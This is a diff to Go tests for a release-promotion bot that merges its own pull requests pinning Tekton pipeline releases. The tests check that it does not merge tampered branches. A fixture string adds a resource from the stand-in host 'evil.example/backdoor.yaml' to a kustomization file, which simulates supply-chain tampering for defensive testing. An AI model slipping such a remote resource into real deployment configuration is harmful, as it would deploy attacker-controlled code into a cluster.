@@ -222,17 +222,13 @@ func TestPromotePreCreatedVerificationRunIsNotTaken(t *testing.T) {
 // promotion stops and says so in the releases thread, audited.
 func TestPromoteGitOpsForeignChangeIsNotMerged(t *testing.T) {
 	t.Parallel()
-	const (
-		file = "tekton/cd/pipeline/overlays/dogfooding/kustomization.yaml"
-		pin  = "resources:\n  - https://storage.googleapis.com/tekton-releases/pipeline/previous/v20261101-0000000/release.yaml\n"
-	)
 	tests := []struct {
 		name   string
 		change func(r *gitRepo, branch string)
 		want   string
 	}{
 		{"a commit pushed onto its branch", func(r *gitRepo, branch string) {
-			r.push(branch, file, strings.Replace(pin, "v20261101-0000000", good, 1)+"  - https://evil.example/backdoor.yaml\n")
+			r.push(branch, plumbingFile, backdoored)
 		}, "a commit tekbot did not write"},
 		{"its base changed to a release branch", func(r *gitRepo, _ string) {
 			r.retarget(1, "release-v0.59.x")
@@ -241,18 +237,10 @@ func TestPromoteGitOpsForeignChangeIsNotMerged(t *testing.T) {
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
-			srv, repo, api := plumbing(t, file, pin)
+			srv, repo, api := plumbing(t, plumbingFile, plumbingPin)
 			w := newClockedWorld(t, api, func(*promoWorld) config.Environment { return autoMerged() })
 			w.release("pipeline", good, kube.Succeeded)
-			ctx := context.Background()
-			r := promotion.Request{ID: "g1", Project: "pipeline", Version: good, By: "andrea"}
-			if _, err := w.engine.Ask(ctx, r); err != nil {
-				t.Fatal(err)
-			}
-			if _, started, err := w.engine.Confirm(ctx, r); err != nil || !started {
-				t.Fatalf("confirm: started %v, %v", started, err)
-			}
-			w.notes.next(t, "Opened a pull request; it deploys when merged")
+			w.promote("g1", good)
 			waitFor(t, "tekbot to wait for the next poll", w.clock.HasWaiters)
 			tt.change(repo, w.promotion("g1").Branch)
 			repo.setReady(1, true)
@@ -274,6 +262,15 @@ func TestPromoteGitOpsForeignChangeIsNotMerged(t *testing.T) {
 	}
 }
 
+// plumbingFile in tektoncd/plumbing pins pipeline's release for
+// dogfooding; backdoored is what someone else would like to merge: the
+// promoted version, and more.
+const (
+	plumbingFile = "tekton/cd/pipeline/overlays/dogfooding/kustomization.yaml"
+	plumbingPin  = "resources:\n  - https://storage.googleapis.com/tekton-releases/pipeline/previous/v20261101-0000000/release.yaml\n"
+	backdoored   = "resources:\n  - https://storage.googleapis.com/tekton-releases/pipeline/previous/" + good + "/release.yaml\n  - https://evil.example/backdoor.yaml\n"
+)
+
 // autoMerged promotes to dogfooding through a PR to tektoncd/plumbing that
 // tekbot merges itself.
 func autoMerged() config.Environment {
@@ -291,12 +288,7 @@ func autoMerged() config.Environment {
 // tekbot works on a branch of its own and merges only its own PR.
 func TestPromotionTrainPreCreatedBranchAndPRAreNotMerged(t *testing.T) {
 	t.Parallel()
-	const (
-		file  = "tekton/cd/pipeline/overlays/dogfooding/kustomization.yaml"
-		pin   = "resources:\n  - https://storage.googleapis.com/tekton-releases/pipeline/previous/v20261101-0000000/release.yaml\n"
-		merge = "/repos/{owner}/{repo}/pulls/{pull_number}/merge"
-	)
-	srv, repo, api := plumbing(t, file, pin)
+	srv, repo, api := plumbing(t, plumbingFile, plumbingPin)
 	w := newClockedWorld(t, api, func(*promoWorld) config.Environment {
 		env := autoMerged()
 		env.Train = &config.Train{At: "10:00", TimeZone: "UTC", Projects: []string{"pipeline"}}
@@ -305,7 +297,7 @@ func TestPromotionTrainPreCreatedBranchAndPRAreNotMerged(t *testing.T) {
 	w.release("pipeline", good, kube.Succeeded)
 	id := "train/dogfooding/pipeline/" + monday.Format(time.DateOnly)
 	theirs := fmt.Sprintf("tekbot/promote-pipeline-%s-%s", good, nameDigest(id, "dogfooding")[:8])
-	repo.push(theirs, file, strings.Replace(pin, "v20261101-0000000", good, 1)+"  - https://evil.example/backdoor.yaml\n")
+	repo.push(theirs, plumbingFile, backdoored)
 	if _, err := repo.open(gh.NewPullRequest{Title: gh.String("Promote pipeline " + good + " to dogfooding"), Head: gh.String(theirs), Base: gh.String("main")}); err != nil {
 		t.Fatal(err)
 	}
@@ -333,7 +325,7 @@ func TestPromotionTrainPreCreatedBranchAndPRAreNotMerged(t *testing.T) {
 	w.notes.next(t, "✅ *pipeline* `"+good+"` is on *dogfooding*")
 	var merges []githubtest.Request
 	for _, req := range srv.Requests() {
-		if req.Method == "PUT" && req.Template == merge {
+		if req.Method == "PUT" && req.Template == "/repos/{owner}/{repo}/pulls/{pull_number}/merge" {
 			merges = append(merges, req)
 		}
 	}
